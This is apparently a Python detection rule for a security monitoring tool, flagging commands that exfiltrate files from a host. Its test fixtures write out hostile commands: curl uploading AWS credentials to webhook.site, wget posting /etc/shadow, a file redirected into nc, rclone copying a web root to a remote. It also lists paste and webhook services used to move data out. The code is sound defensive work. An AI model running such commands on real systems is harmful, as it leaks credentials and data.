"""Exfiltration:Runtime/SuspiciousCommand (Vigil-specific): a command that sends files off the instance.

Mechanisms (issue 17):
- ``upload-service``: curl/wget uploading a local file (``-T``, ``-F x=@file``, ``-d @file``,
  ``--data-binary @file``, ``--post-file``) to a paste, file-sharing or webhook service
  (transfer.sh, 0x0.st, file.io, paste.rs, pastebin, webhook.site, Discord/Telegram bots ...), or
  piping into termbin (``nc termbin.com 9999``);
- ``sensitive-upload``: uploading a credential or account file (/etc/shadow, ~/.aws/credentials,
  SSH keys) anywhere;
- ``raw-socket-upload``: a file redirected into nc/ncat/socat/telnet towards a remote host;
- ``cloud-sync``: rclone/megacmd copying to a remote, from a web/app server's child or a binary in
  a writable directory (Low by hand; backups from cron are not flagged);
- ``service-copy``: scp/sftp/rsync to another host started by a web/app server's child.

High for sensitive files and for anything a web/app server's child runs; Medium otherwise, Low for
cloud sync in an administrator's interactive session.
"""

from __future__ import annotations

import re
from typing import Any, ClassVar, Final

from vigil import sample as s
from vigil import severity
from vigil.detection import Context, Detection, Example, Meta
from vigil.detections._common import command_context, memo_by_command
from vigil.events import ProcessActivity
from vigil.vocab import (
    SHELL_NAMES,
    base_name,
    in_writable_dir,
    is_shell,
    server_child,
    session,
    shell_command,
)

UPLOAD_SERVICES: Final = (
    "transfer.sh", "0x0.st", "file.io", "paste.rs", "pastebin.com", "paste.ee", "ix.io", "sprunge.us", "termbin.com",
    "bashupload.com", "temp.sh", "oshi.at", "catbox.moe", "litterbox.catbox.moe", "gofile.io", "anonfiles.com",
    "filebin.net", "tmpfiles.org", "uguu.se", "pixeldrain.com", "keep.sh", "free.keep.sh", "dpaste.com", "dpaste.org",
    "hastebin.com", "ghostbin.co", "privatebin.net", "webhook.site", "requestbin.net", "pipedream.net", "m.pipedream.net",
    "requestcatcher.com", "beeceptor.com", "hookbin.com", "interact.sh", "oast.fun", "oast.pro", "oast.live",
    "burpcollaborator.net", "discord.com/api/webhooks", "discordapp.com/api/webhooks", "api.telegram.org/bot",
    "mega.nz", "mega.co.nz", "send.firefox.com", "wetransfer.com", "ufile.io", "anonymfile.com",
)  # fmt: skip
_SENSITIVE: Final = re.compile(
    r"/etc/shadow|/etc/gshadow|/\.aws/credentials|/\.ssh/id_\w+|/serviceaccount/token|/\.git-credentials|/\.kube/config"
    r"|/\.docker/config\.json|/\.netrc|/\.pgpass"
)
_UPLOAD_FLAGS: Final = ("-T", "--upload-file", "-F", "--form", "--form-string")
_DATA_FLAGS: Final = ("-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--json")
_RAW_UPLOAD: Final = re.compile(
    r"\b(?:nc|ncat|netcat|socat|telnet)\b[^|;&<]*\s\d{1,3}(?:\.\d{1,3}){3}[^|;&<]*<\s*\S+"
    r"|\bcat\b[^|;&]*\|\s*(?:nc|ncat|netcat)\s+\S+\s+\d+"
    r"|\b(?:nc|ncat)\s+termbin\.com\s+9999"
)
_SCRIPT_UPLOAD: Final = re.compile(
    r"(?:-T|--upload-file|-F|--form|--data-binary|-d)\s+\S*@|--post-file|--upload-file"
)
_SYNC: Final = frozenset(
    {"rclone", "megacmd", "mega-put", "megaput", "mega-cmd", "gdrive", "dropbox_uploader.sh"}
)
_COPY: Final = frozenset({"scp", "sftp", "rsync"})


def _uploads_file(args: list[str]) -> str:
    """The local file curl/wget uploads, '' if none."""
    for i, a in enumerate(args):
        nxt = args[i + 1] if i + 1 < len(args) else ""
        if a in _UPLOAD_FLAGS:
            return (
                nxt
                if a in ("-T", "--upload-file")
                else (nxt.split("@", 1)[1] if "=@" in nxt or nxt.startswith("@") else "")
            )
        if a in _DATA_FLAGS and nxt.startswith("@"):
            return nxt[1:]
        for flag in ("--upload-file=", "--post-file=", "--body-file="):
            if a.startswith(flag):
                return a[len(flag) :]
        if a in ("--post-file", "--body-file"):
            return nxt
    return ""


@memo_by_command
def _mechanism(event: ProcessActivity) -> str:
    p = event.process
    name = base_name(p)
    args = list(p.args[1:])
    if name in ("curl", "wget"):
        sent = _uploads_file(args)
        if not sent:
            return ""
        if _SENSITIVE.search(sent):
            return "sensitive-upload"
        joined = " ".join(args)
        return "upload-service" if any(svc in joined for svc in UPLOAD_SERVICES) else ""
    if is_shell(p):
        script = shell_command(p)
        if script and _RAW_UPLOAD.search(script):
            return "raw-socket-upload"
        if (
            script
            and ("curl" in script or "wget" in script)
            and any(svc in script for svc in UPLOAD_SERVICES)
            and _SCRIPT_UPLOAD.search(script)
        ):
            return "upload-service"
        return ""
    if name in _SYNC and any(a in ("copy", "sync", "move", "copyto", "put") for a in args[:2]):
        return "cloud-sync"
    if name in _COPY and any(re.match(r"^[\w.-]+@[\w.-]+:|^[\w.-]+:[/~]", a) for a in args):
        return "service-copy"
    return ""


class ExfiltrationSuspiciousCommand(Detection):
    meta = Meta(
        type="Exfiltration:Runtime/SuspiciousCommand",
        severity=severity.MEDIUM,
        title="A command that sends files off the instance was executed",
        description=(
            "A process uploaded a local file to a paste, file-sharing or webhook service, uploaded a credential file, "
            "redirected a file into a raw network connection, or synced data to a cloud remote. Vigil-specific type "
            "(GuardDuty has no runtime Exfiltration type)."
        ),
        mitre=("T1567.002", "T1567", "T1048", "T1041"),
        runbook=(
            "Read commandLineExample: what left, and to where? Treat every secret in the file as disclosed (rotate it); "
            "find how the process got there from its lineage."
        ),
        false_positives=(
            "Operators sharing logs through a paste service; backups synced with rclone (Low when run by hand).",
        ),
        references=("https://attack.mitre.org/techniques/T1567/",),
    )
    kinds = frozenset({"process_exec"})
    programs = frozenset({"curl", "wget"}) | _SYNC | _COPY | SHELL_NAMES  # _mechanism's names, or a shell

    def match(self, event: ProcessActivity, ctx: Context) -> bool:
        m = _mechanism(event)
        if m == "cloud-sync":
            p = event.process
            return server_child(p) or in_writable_dir(p.file.path) or session(p) == "interactive"
        if m == "service-copy":
            return server_child(event.process)
        return m != ""

    def severity(self, event: ProcessActivity) -> float:
        m = _mechanism(event)
        p = event.process
        if m == "sensitive-upload" or server_child(p):
            return severity.HIGH
        if m == "cloud-sync" and session(p) == "interactive" and not in_writable_dir(p.file.path):
            return severity.LOW
        return severity.MEDIUM

    def dedup_key(self, event: ProcessActivity) -> str:
        return f"{_mechanism(event)}|{event.process.cmd_line[:256]}"

    def context(self, event: ProcessActivity, ctx: Context) -> dict[str, Any]:
        return command_context(event.process)

    _WEB: ClassVar = s.proc("/usr/sbin/php-fpm8.2", pid=950, uid=33, stdin=s.pipe())
    fires: ClassVar = (
        Example("curl --upload-file to transfer.sh", (s.exec_(s.proc("/usr/bin/curl", "--upload-file", "/tmp/.k.tgz", "https://transfer.sh/k.tgz")),)),
        Example("curl -F to a paste service", (s.exec_(s.proc("/usr/bin/curl", "-F", "c=@/etc/hosts", "https://paste.rs")),)),
        Example("credentials posted to a webhook (High)", (s.exec_(s.proc("/usr/bin/curl", "-s", "-X", "POST", "-d", "@/root/.aws/credentials", "https://webhook.site/1f0e")),)),
        Example("wget --post-file of /etc/shadow (High)", (s.exec_(s.proc("/usr/bin/wget", "--post-file=/etc/shadow", "http://198.51.100.7/u")),)),
        Example("a file into nc", (s.exec_(s.proc("/bin/sh", "-c", "nc 198.51.100.7 9001 < /tmp/.k.tgz")),)),
        Example("rclone from /tmp", (s.exec_(s.proc("/tmp/rclone", "copy", "/var/www", "mega:loot")),)),
        Example("scp from a web shell", (s.exec_(s.proc("/usr/bin/scp", "/tmp/.db.sql", "x@198.51.100.7:/d", uid=33, parent=_WEB)),)),
    )  # fmt: skip
    near_misses: ClassVar = (
        Example("a JSON notification to Slack", (s.exec_(s.proc("/usr/bin/curl", "-s", "-X", "POST", "-d", '{"text":"done"}', "https://hooks.slack.com/services/T/B/X")),)),
        Example("a metrics file posted to the company's API", (s.exec_(s.proc("/usr/bin/curl", "-d", "@/var/lib/app/metrics.json", "https://metrics.example.com/ingest")),)),
        Example("downloading from a paste service", (s.exec_(s.proc("/usr/bin/curl", "-s", "https://paste.rs/abc")),)),
        Example("an admin's scp deploy", (s.exec_(s.proc("/usr/bin/scp", "build.tgz", "deploy@10.0.0.7:/opt/app/", parent=s.LOGIN_SHELL)),)),
        Example("a port check with nc", (s.exec_(s.proc("/usr/bin/nc", "-zv", "10.0.0.7", "5432")),)),
    )  # fmt: skip
